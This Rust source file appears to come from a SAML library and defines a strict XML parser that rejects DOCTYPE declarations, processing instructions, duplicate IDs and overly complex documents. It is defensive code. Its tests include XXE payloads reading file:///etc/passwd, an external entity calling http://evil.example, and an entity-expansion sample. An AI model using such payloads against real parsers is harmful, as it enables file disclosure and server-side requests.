//! The strict tree that everything of SAML is read from.
//!
//! What the parser lets pass (it takes a default namespace that is declared twice, for one) does
//! not matter as long as the canonical form is made from the same resolved names and values that
//! are read: what was signed is then what is seen.

use std::collections::BTreeSet;

use roxmltree::{Document, Node, ParsingOptions};

/// How deep elements may stand in each other: what walks the tree calls itself.
const MOST_DEPTH: usize = 64;
/// Prefixes that a document may declare. The parser copies those in scope at each declaration.
const MOST_PREFIXES: usize = 64;
/// Equality signs in a tag. The parser compares each attribute with those before it.
const MOST_EQUALITY_SIGNS: usize = 1_000;
/// Attributes that identify an element, whatever its type.
const ID_NAMES: [&str; 4] = ["ID", "Id", "id", "AssertionID"];

/// Why a text is no document that is read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum XmlFault {
    Malformed,
    /// A document type declaration.
    DocumentType,
    ProcessingInstruction,
    DuplicateId,
    /// Too many nodes, prefixes or attributes, or too deep.
    TooComplex,
}

/// Parses a document.
pub(super) fn parse(text: &str, most_nodes: u32) -> Result<Document<'_>, XmlFault> {
    // Where it stands does not matter: nobody writes this into a comment in good faith.
    if text.contains("<!DOCTYPE") {
        return Err(XmlFault::DocumentType);
    }
    require_few_names(text)?;
    let options = ParsingOptions {
        nodes_limit: most_nodes,
        ..ParsingOptions::default()
    };
    let document = Document::parse_with_options(text, options).map_err(|error| match error {
        roxmltree::Error::DtdDetected => XmlFault::DocumentType,
        roxmltree::Error::NodesLimitReached => XmlFault::TooComplex,
        _ => XmlFault::Malformed,
    })?;
    require_shallow(document.root(), MOST_DEPTH)?;
    if document.descendants().any(|node| node.is_pi()) {
        return Err(XmlFault::ProcessingInstruction);
    }
    require_unique_ids(&document)?;
    Ok(document)
}

fn require_few_names(text: &str) -> Result<(), XmlFault> {
    let declarations = text.split("xmlns:").skip(1);
    let prefixes: BTreeSet<&str> = declarations
        .map(|rest| {
            rest.split(['=', ' ', '\t', '\r', '\n'])
                .next()
                .unwrap_or("")
        })
        .collect();
    // A tag has no `<` but its first.
    let crowded = text
        .split('<')
        .any(|tag| memchr::memchr_iter(b'=', tag.as_bytes()).count() > MOST_EQUALITY_SIGNS);
    if crowded || prefixes.len() > MOST_PREFIXES {
        return Err(XmlFault::TooComplex);
    }
    Ok(())
}

fn require_shallow(node: Node<'_, '_>, depth: usize) -> Result<(), XmlFault> {
    let below = depth.checked_sub(1).ok_or(XmlFault::TooComplex)?;
    node.children()
        .filter(Node::is_element)
        .try_for_each(|child| require_shallow(child, below))
}

fn require_unique_ids(document: &Document<'_>) -> Result<(), XmlFault> {
    let mut seen = BTreeSet::new();
    let attributes = document.descendants().flat_map(|node| node.attributes());
    for attribute in attributes {
        if ID_NAMES.contains(&attribute.name()) && !seen.insert(attribute.value()) {
            return Err(XmlFault::DuplicateId);
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fault(text: &str) -> Option<XmlFault> {
        parse(text, 1_000).err()
    }

    #[test]
    fn takes_plain_documents() {
        for text in [
            "<a/>",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a ID=\"1\"><b ID=\"2\"/><!-- c --></a>",
            "<a xmlns:x=\"u\"><x:b>&lt;&#65;<![CDATA[<c>]]></x:b></a>",
        ] {
            assert_eq!(fault(text), None, "{text}");
        }
    }

    #[test]
    fn refuses_document_types_and_entities() {
        for text in [
            "<!DOCTYPE a><a/>",
            "<!DOCTYPE a []><a/>",
            "<!DOCTYPE a SYSTEM \"file:///etc/passwd\"><a/>",
            "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>",
            "<!DOCTYPE a [<!ENTITY e \"ha\"><!ENTITY f \"&e;&e;\">]><a>&f;</a>",
            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example\"> %p;]><a/>",
            "<a><![CDATA[<!DOCTYPE a>]]></a>",
        ] {
            assert_eq!(fault(text), Some(XmlFault::DocumentType), "{text}");
        }
        assert_eq!(fault("<a>&e;</a>"), Some(XmlFault::Malformed));
        assert_eq!(fault("<!doctype a><a/>"), Some(XmlFault::Malformed));
    }

    #[test]
    fn refuses_processing_instructions_and_repeated_ids() {
        assert_eq!(
            fault("<a><?b c?></a>"),
            Some(XmlFault::ProcessingInstruction)
        );
        for text in [
            "<a ID=\"1\"><b ID=\"1\"/></a>",
            "<a ID=\"1\"><b Id=\"1\"/></a>",
            "<a ID=\"1\"><b xml:id=\"1\"/></a>",
            "<a ID=\"1\" id=\"&#49;\"/>",
        ] {
            assert_eq!(fault(text), Some(XmlFault::DuplicateId), "{text}");
        }
    }

    #[test]
    fn refuses_what_is_no_document() {
        for text in [
            "",
            "a",
            "<a>",
            "<a></b>",
            "<a/><b/>",
            "<a b=1/>",
            "<a b='1' b='2'/>",
            "<x:a/>",
            "<a>\u{0}</a>",
            "<a>&#0;</a>",
        ] {
            assert_eq!(fault(text), Some(XmlFault::Malformed), "{text}");
        }
    }

    #[test]
    fn refuses_what_takes_long() {
        let deep = "<a>".repeat(70) + &"</a>".repeat(70);
        let very_deep = "<a>".repeat(100_000) + &"</a>".repeat(100_000);
        let wide = format!("<a>{}</a>", "<b/>".repeat(2_000));
        let attributes: String = (0..2_000).map(|n| format!(" a{n}=''")).collect();
        let prefixes: String = (0..100).map(|n| format!(" xmlns:a{n}='u'")).collect();
        for text in [
            deep,
            very_deep,
            wide,
            format!("<a{attributes}/>"),
            format!("<a{prefixes}/>"),
        ] {
            assert_eq!(fault(&text), Some(XmlFault::TooComplex));
        }
    }
}
